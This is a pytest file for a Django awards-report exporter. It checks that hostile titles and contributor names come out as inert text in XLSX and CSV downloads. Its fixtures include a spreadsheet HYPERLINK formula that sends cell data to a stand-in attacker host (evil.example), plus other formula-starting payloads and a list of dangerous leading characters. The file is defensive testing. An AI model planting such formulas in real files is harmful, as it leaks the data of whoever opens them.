"""Spreadsheet formula injection: a hostile title or name is text in every download.

A correspondent chooses titles and names. In the editors' XLSX and CSV files, a cell that
starts with = + - @ must never run as a formula (awards/cells.py); numbers stay numbers.
"""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from awards import cells, export
from awards.report import year_report
from tests.factories import make_article, make_contributor, make_editor, make_issue, make_zone

pytestmark = pytest.mark.django_db

YEAR = 2024
TITLE = '=HYPERLINK("http://evil.example/?d="&A2,"点此查看")'
NAMES = ["@SUM(1+1)", "+1", "-1"]
FULL_WIDTH_TITLE = "＝1+1"


@pytest.fixture
def hostile_year():
    zone = make_zone()
    issue = make_issue(date=datetime.date(YEAR, 3, 5))
    people = [make_contributor(name=name, zone=zone) for name in NAMES]
    make_article(issue=issue, page=1, position=1, title=TITLE, authors=people, zone=zone)
    make_article(
        issue=issue, page=2, position=1, title=FULL_WIDTH_TITLE, authors=people[:1], zone=zone
    )
    return people


def assert_workbook_is_inert(content: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    # The text reads back exactly as written, without an added quote.
    assert {TITLE, FULL_WIDTH_TITLE, *NAMES} <= texts
    ranking = workbook["评分排名"]
    for row in ranking.iter_rows(min_row=2):
        rank, _, _, pieces, score = (cell.value for cell in row[:5])
        assert isinstance(rank, int) and isinstance(pieces, int)
        assert score > 0 and not isinstance(score, str)
    return workbook


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def assert_csv_is_inert(content: bytes):
    dangerous = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
    cells = [cell for row in rows_of(content) for cell in row]
    assert not [cell for cell in cells if cell.startswith(dangerous)]
    return cells


def test_the_admin_xlsx_download_has_no_formula(client, hostile_year):
    client.force_login(make_editor())
    response = client.get(reverse("admin:awards_credit_xlsx", args=[YEAR]))

    assert response.status_code == 200
    workbook = assert_workbook_is_inert(response.content)
    title_cell = next(c for c in workbook["稿件清单"]["F"] if c.value == TITLE)
    assert title_cell.data_type == "s"
    assert title_cell.quotePrefix  # stays text when an editor edits the cell in Excel


def test_every_admin_csv_download_prefixes_formula_cells_with_a_quote(client, hostile_year):
    client.force_login(make_editor())
    for key in export.SHEETS_BY_KEY:
        response = client.get(reverse("admin:awards_credit_csv", args=[YEAR, key]))
        assert response.status_code == 200
        assert_csv_is_inert(response.content)

    pieces = client.get(reverse("admin:awards_credit_csv", args=[YEAR, "pieces"])).content
    cells = assert_csv_is_inert(pieces)
    assert "'" + TITLE in cells
    assert "'" + FULL_WIDTH_TITLE in cells
    assert {"'@SUM(1+1)", "'+1", "'-1"} <= set(cells)


def test_the_command_writes_the_same_inert_files(hostile_year, tmp_path):
    xlsx, csv_path = tmp_path / "year.xlsx", tmp_path / "year.csv"

    call_command("contributor_report", year=YEAR, xlsx=xlsx, csv=csv_path, verbosity=0)

    assert_workbook_is_inert(xlsx.read_bytes())
    assert "'" + TITLE in assert_csv_is_inert(csv_path.read_bytes())


def test_numbers_stay_numbers_in_the_csv(hostile_year):
    ranking = rows_of(export.csv_bytes(year_report(YEAR), "ranking"))
    header, *rows = ranking
    for row in rows:
        assert row[0].isdigit()  # 名次
        assert row[3].isdigit()  # 稿件篇数
        float(row[4])  # 得分: a number, no quote in front


@pytest.mark.parametrize(
    ("value", "written"),
    [(-1, -1), (Decimal("-1.5"), "-1.5"), (datetime.date(2024, 3, 5), "2024-03-05"), ("-1", "'-1")],
)
def test_only_text_is_quoted_in_a_csv_cell(value, written):
    # A negative number in a numeric column is a number, not a formula.
    assert export._csv_value(value) == written


@pytest.mark.parametrize("text", [TITLE, "#N/A", "=", "\t=1+1", "普通标题"])
def test_an_xlsx_text_cell_reads_back_as_the_same_text(text):
    workbook = openpyxl.Workbook()
    cell = workbook.active.cell(row=1, column=1, value=text)
    cells.xlsx_cell(cell)
    buffer = io.BytesIO()
    workbook.save(buffer)

    saved = openpyxl.load_workbook(buffer).active["A1"]

    assert (saved.value, saved.data_type) == (text, "s")


def test_a_control_character_in_a_zones_name_does_not_break_the_xlsx():
    # Zone names have no check against control characters, and openpyxl refuses to write one.
    zone = make_zone(official_name="控制\x0b字符经济技术开发区")
    make_article(
        issue=make_issue(date=datetime.date(YEAR, 3, 5)),
        authors=[make_contributor(zone=zone)],
        zone=zone,
    )

    workbook = openpyxl.load_workbook(io.BytesIO(export.workbook_bytes(year_report(YEAR))))

    texts = {value for sheet in workbook for row in sheet.values for value in row}
    assert "控制字符经济技术开发区" in texts
